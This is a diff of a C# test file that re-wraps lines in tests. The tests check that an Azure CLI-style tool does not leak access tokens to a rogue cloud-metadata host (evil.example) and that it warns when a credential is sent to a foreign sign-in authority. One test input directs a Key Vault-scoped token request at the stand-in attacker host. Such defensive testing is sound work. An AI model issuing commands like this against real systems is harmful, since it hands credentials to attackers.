@@ -18,14 +18,16 @@ public sealed class ForeignResourceManagerTests
     [InlineData("https://vault.azure.net/4de154de-f8a8-4017-af41-df619da68155")]
     public async Task A_strangers_ARM_hears_nothing_from_those_who_are_signed_in_already(string audience)
     {
-        using var evil = new MetadataTwin(_ => $"[{MetadataTwin.Cloud("Evil", "https://login.microsoftonline.com", "https://evil.example", audience)}]");
+        using var evil = new MetadataTwin(
+            _ => $"[{MetadataTwin.Cloud("Evil", "https://login.microsoftonline.com", "https://evil.example", audience)}]");
         using var home = new Home().WithFixture("mixed");
         home.Put("azureProfile.json", home["azureProfile.json"].Replace("AzureCloud", "Evil", StringComparison.Ordinal));
         home.Variables["ARM_CLOUD_METADATA_URL"] = evil.Url;
         home.Variables["AZURE_CLOUD_NAME"] = "Evil";
 
         foreach (var line in (string[])[
-            "account get-access-token", "account get-access-token --resource https://management.core.windows.net/", "rest -u /subscriptions", "rest -u https://evil.example/x --resource https://vault.azure.net",
+            "account get-access-token", "account get-access-token --resource https://management.core.windows.net/",
+            "rest -u /subscriptions", "rest -u https://evil.example/x --resource https://vault.azure.net",
             "account list-locations", "account tenant list"])
         {
             var ran = await home.Az.RunAsync(line);
@@ -64,7 +66,11 @@ public sealed class ForeignResourceManagerTests
         await using var azure = await Sandbox.StartAsync();
         using var home = azure.NewHome();
         OnlyTheVariable(home, azure);
-        (await home.Az.RunAsync(["login", "--service-principal", "-u", Terraform, "-p", "Azimuth-sandbox-secret-1", "--tenant", Contoso.Domain])).ShouldSucceed();
+        (await home.Az.RunAsync(
+            [
+                "login", "--service-principal", "-u", Terraform, "-p", "Azimuth-sandbox-secret-1", "--tenant",
+                Contoso.Domain
+            ])).ShouldSucceed();
         const string path = "/subscriptions?api-version=2022-12-01";
 
         var own = await home.Az.RunAsync($"rest -u {path}");
@@ -86,7 +92,8 @@ public sealed class ForeignResourceManagerTests
         await using var azure = await Sandbox.StartAsync();
         using var home = Named(azure);
 
-        var login = await home.Az.RunAsync(["login", "--service-principal", "-u", Terraform, option, value, "--tenant", Contoso.Domain, "-o", "none"]);
+        var login = await home.Az.RunAsync(
+            ["login", "--service-principal", "-u", Terraform, option, value, "--tenant", Contoso.Domain, "-o", "none"]);
 
         login.Stderr.Split('\n').Where(each => each.StartsWith("WARNING", StringComparison.Ordinal)).ShouldHaveSingleItem()
             .ShouldContain($"signs in at {new Uri(azure.SignIn).Authority}: the service principal's credential is sent there");
